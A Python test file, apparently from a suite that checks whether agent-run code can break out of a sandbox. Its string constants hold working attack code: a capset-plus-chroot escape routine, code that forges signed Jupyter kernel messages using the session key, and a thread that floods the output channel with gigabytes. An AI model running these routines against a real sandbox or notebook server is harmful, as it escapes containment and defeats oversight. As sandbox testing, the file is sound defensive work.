"""What every hostile program can use."""
# ruff: noqa: E501  (programs as they are run)

PRELUDE = """
import contextlib, ctypes, json, mmap, os, resource, signal, socket, struct, subprocess, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)

def attempt(what, function):
    try:
        got = function()
    except (NameError, KeyError, TypeError, AttributeError, SyntaxError) as error:
        # an attack that cannot even be tried proves nothing
        print('BROKEN', what, type(error).__name__, str(error)[:200])
    except BaseException as error:
        print('refused', what, type(error).__name__, str(error)[:200])
    else:
        print('THROUGH', what, repr(got)[:500])

def call(function, *arguments):
    '''A C function or, given a number, a system call; its failure is an OSError.'''
    ctypes.set_errno(0)
    arguments = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    answer = libc.syscall(ctypes.c_long(function), *arguments) if isinstance(function, int) else function(*arguments)
    if answer == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer

def read(path):
    with open(path, 'rb') as file:
        return file.read(65536)

def some(found):
    if not found:
        raise FileNotFoundError('nothing')
    return found

def entries(path):
    return some(os.listdir(path))

def write(path):
    with open(path, 'w') as file:
        file.write('written by an agent')

def alone(code, *arguments):
    '''Run code in a process with one thread; what it prints is what it got.'''
    done = subprocess.run([sys.executable, '-c', code, *arguments], capture_output=True, text=True)
    if done.returncode or not done.stdout:
        raise OSError(done.stderr[-200:])
    return done.stdout

def apart(function):
    '''What a function returns in a process of its own, as text; its failure is an OSError here.'''
    heard, told = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(told, b'+' + repr(function()).encode()[:60000])
        except BaseException as error:
            os.write(told, b'-' + f'{type(error).__name__}: {error}'.encode()[:200])
        os._exit(0)
    os.close(told)
    with open(heard, 'rb') as file:
        said = file.read().decode()
    os.waitpid(child, 0)
    if said[:1] != '+':
        raise OSError(said[1:])
    return said[1:]

def climb():
    '''Out of one's root, as whoever may change it can; kernels that are forked from an image keep that right.'''
    header, right = struct.pack('Ii', 0x20080522, 0), 1 << 18
    call(libc.capset, header, struct.pack('6I', right, right, 0, 0, 0, 0))
    os.makedirs('/tmp/cell', exist_ok=True)
    os.chdir('/')
    os.chroot('/tmp/cell')
    for _ in range(30):
        os.chdir('..')
    os.chroot('.')

facts = json.loads(%r)
"""

FORGED = """
import json, os, threading, zmq
import ipykernel
kernel = get_ipython().kernel
session, iopub, parent = kernel.session, kernel.iopub_socket, kernel.get_parent()
info = json.load(open(ipykernel.get_connection_file()))
def dial(port, kind):
    made = zmq.Context.instance().socket(kind)
    made.linger = 0
    made.connect(f"ipc://{info['ip']}-{info[port]}")
    return made
def say(kind, content, parent=parent):
    session.send(iopub, kind, content, parent=parent)
def raw(*frames):
    iopub.send_multipart([b'kernel.x', b'<IDS|MSG>', *frames])
def signed(header, parent, metadata, content):
    frames = [each if isinstance(each, bytes) else json.dumps(each).encode() for each in (header, parent, metadata, content)]
    raw(session.sign(frames), *frames)
def headed(kind):
    return json.loads(json.dumps(session.msg_header(kind), default=str))
this = json.loads(json.dumps(parent['header'], default=str))
"""
"""What every forger of messages can use, after that."""

BEHIND_THE_BACK = """
import threading
kernel = get_ipython().kernel
parent = kernel.get_parent()
def flood():
    for _ in range(300):
        try: kernel.session.send(kernel.iopub_socket, 'display_data', {{'data': {{'text/plain': 'x' * 8388608}}, 'metadata': {{}}}}, parent=parent)
        except MemoryError: pass
flooding = threading.Thread(target=flood)
flooding.start()
{then}
"""
"""Sends 2400 MiB from a thread of its own."""
